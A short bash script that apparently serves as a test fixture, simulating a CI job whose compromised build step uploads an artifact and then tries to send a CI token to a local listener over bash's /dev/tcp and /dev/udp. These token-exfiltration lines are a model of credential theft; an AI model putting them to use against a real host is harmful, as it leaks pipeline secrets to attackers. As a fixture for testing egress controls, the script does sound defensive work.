#!/usr/bin/env bash
# A CI job with a compromised build step: it uploads its artifact, then tries to send the
# CI token out, by TCP and by UDP. Only bash's /dev/tcp and /dev/udp are used.
set -u
token="ghp_demo0123456789secret"

echo "job: uploading artifact to the registry (127.0.0.1:8181)"
if exec 3<>/dev/tcp/127.0.0.1/8181; then
    printf 'PUT /artifacts/app-1.0.tar.gz HTTP/1.0\r\nContent-Length: 20\r\n\r\nartifact-bytes-01234' >&3
    read -r status <&3 && echo "job: registry answered: ${status%$'\r'}"
    exec 3>&-
else
    echo "job: upload FAILED"
fi

echo "job: (malicious dependency) sending the token to 127.0.0.1:9999"
if exec 4<>/dev/tcp/127.0.0.1/9999; then
    printf 'token=%s' "$token" >&4
    exec 4>&-
    echo "job: token sent over TCP"
else
    echo "job: TCP exfiltration blocked"
fi
if printf 'token=%s' "$token" >/dev/udp/127.0.0.1/9999; then
    echo "job: token sent over UDP"
else
    echo "job: UDP exfiltration blocked"
fi
echo "job: done"
